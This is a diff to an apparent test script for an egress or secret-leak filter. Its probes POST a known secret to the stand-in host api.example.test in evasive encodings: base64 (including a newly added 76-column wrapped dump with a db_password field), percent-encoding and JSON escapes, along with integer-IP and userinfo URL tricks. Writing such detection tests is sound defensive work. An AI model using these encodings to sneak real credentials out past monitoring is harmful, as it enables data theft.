@@ -53,6 +53,9 @@ probe("integer-literal", get("2130706433", http_port))
 probe("userinfo", b"GET http://user:pw@api.example.test:" + str(http_port).encode() + b"/ HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
 payload = base64.b64encode(json.dumps({"user": "bob", "note": "sync", "key": known}).encode())
 probe("known-secret-base64", get("api.example.test", http_port, "/upload", method=b"POST", body=b"data=" + payload))
+# Base64 wrapped at 76 columns (base64.encodebytes, GNU base64), the break inside the secret's form.
+dump = base64.encodebytes(b'{"host":"build-7","padding":"' + b"x" * 54 + b'","db_password":"' + known.encode() + b'"}\n')
+probe("known-secret-base64-wrapped", get("api.example.test", http_port, "/w", method=b"POST", body=dump))
 # One character percent-encoded, or JSON-escaped, is still the secret.
 probe("known-secret-partly-escaped", get("api.example.test", http_port, "/f", method=b"POST", body=b"pw=%" + format(ord(known[0]), "02x").encode() + known[1:].encode()))
 probe("known-secret-json-escaped", get("api.example.test", http_port, "/j", method=b"POST", body=b'{"k":"\\u00' + format(ord(known[0]), "02x").encode() + known[1:].replace("/", "\\/").encode() + b'"}'))
